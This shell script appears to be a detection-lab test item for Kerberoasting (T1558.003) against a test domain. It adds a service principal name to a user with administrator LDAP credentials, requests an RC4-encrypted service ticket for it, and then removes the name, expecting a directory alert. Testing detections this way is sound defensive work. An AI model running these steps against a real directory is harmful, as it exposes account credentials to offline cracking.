# SPDX-License-Identifier: Apache-2.0
# what: a person given an SPN, a ticket with RC4 for it asked, the SPN taken away
# technique: T1558.003
# from: ws1
# to: dc1
# account: Administrator
# outcome: success
# must: alert directory
. "$RANGE_HERE/item.sh"
spn() { # add | delete
	printf 'dn: CN=frank,CN=Users,DC=corp,DC=range,DC=test\nchangetype: modify\n%s: servicePrincipalName\nservicePrincipalName: http/roast.%s\n' $1 $DOMAIN_DNS >"$HOME/ldif"
	ldapmodify -x -H ldap://$dc1 -D "Administrator@$DOMAIN_DNS" -w "$ADMIN_PASSWORD" -f "$HOME/ldif"
}
spn add || exit 1
export KRB5_CONFIG="$RANGE/hosts/ws1/krb5-rc4.conf"
echo "$USER_PASSWORD" | kinit alice
kvno "http/roast.$DOMAIN_DNS"
ok=$?
spn delete
exit $ok
